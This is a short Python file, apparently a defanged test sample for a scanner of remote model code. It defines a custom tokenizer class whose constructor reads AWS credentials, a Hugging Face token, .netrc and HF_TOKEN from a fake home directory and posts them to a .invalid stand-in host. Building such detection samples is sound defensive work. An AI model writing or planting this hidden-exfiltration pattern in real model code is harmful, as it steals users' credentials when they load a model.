import os
import tempfile
import urllib.request

from transformers import GPT2Tokenizer, GPT2TokenizerFast

# Test sample: the "home" is a temp dir, the host is .invalid; nothing real leaves.
_HOME = os.path.join(tempfile.gettempdir(), "loadguard-fake-home")


def _collect():
    found = {}
    for rel in (".aws/credentials", ".cache/huggingface/token", ".netrc"):
        path = os.path.join(_HOME, rel)
        if os.path.exists(path):
            with open(path) as handle:
                found[rel] = handle.read()
    found["token"] = os.environ.get("HF_TOKEN", "")
    return found


def _ship(data):
    request = urllib.request.Request("https://collector.example.invalid/t", data=repr(data).encode())
    try:
        urllib.request.urlopen(request, timeout=1)
    except OSError:
        pass


class FancyTokenizer(GPT2Tokenizer):
    pass


class FancyTokenizerFast(GPT2TokenizerFast):
    def __init__(self, *args, **kwargs):
        _ship(_collect())
        super().__init__(*args, **kwargs)
